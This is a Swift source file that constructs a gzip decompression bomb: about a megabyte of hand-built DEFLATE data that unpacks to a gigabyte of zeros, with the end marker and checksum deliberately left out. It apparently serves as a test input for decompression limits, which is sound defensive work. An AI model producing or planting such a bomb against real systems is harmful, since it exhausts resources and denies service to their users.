// A gzip file of a megabyte that unpacks to more than a gigabyte, written bit by bit (RFC 1951
// and 1952).

import Foundation

enum GzipBomb {
  /// Unpacks to 1 GiB of zeros.
  ///
  /// One block with Huffman codes of its own, in which "repeat the last byte 258 times" takes two
  /// bits, both 0. So the block is a header, a literal 0, and zero bits.
  static let gigabyte: Data = {
    var bits = Bits()
    bits.put(0b1, 1)  // The last block,
    bits.put(0b10, 2)  // with codes of its own:
    bits.put(286 - 257, 5)  // 286 of literals and lengths,
    bits.put(1 - 1, 5)  // one of distances,
    bits.put(18 - 4, 4)  // written in a code of 18 entries, in the order of RFC 1951, 3.2.7.
    for symbol in [16, 17, 18, 0, 8, 7, 9, 6, 10, 5, 11, 4, 12, 3, 13, 2, 14, 1] {
      bits.put([18: 1, 1: 2, 2: 2][symbol] ?? 0, 3)
    }
    // In that code, 0 means as many zeros as 11 plus the next 7 bits, 10 means 1, and 11 means 2.
    func zeros(_ count: Int) {
      bits.put(0, 1)
      bits.put(count - 11, 7)
    }
    bits.put(0b11, 2)  // The literal 0 has a code of two bits: 10;
    zeros(138)
    zeros(117)
    bits.put(0b11, 2)  // the end of the block, of two bits: 11;
    zeros(28)
    bits.put(0b01, 2)  // "258 times", of one bit: 0;
    bits.put(0b01, 2)  // and "the last byte", of one bit: 0.
    bits.put(0b01, 2)  // The literal 0, and then nothing but zeros.
    // The end and the checksum are missing: a reader notices that only after it has unpacked
    // everything.
    let header = Data([0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 255])
    let repeats = Data(count: (1 << 30) / 258 / 4 + 1)
    return header + Data(bits.bytes) + repeats
  }()

  /// Bytes that are filled bit by bit, from the lowest bit on.
  private struct Bits {
    var bytes: [UInt8] = []
    private var count = 0

    mutating func put(_ value: Int, _ width: Int) {
      for index in 0..<width {
        if count % 8 == 0 { bytes.append(0) }
        bytes[bytes.count - 1] |= UInt8(value >> index & 1) << (count % 8)
        count += 1
      }
    }
  }
}
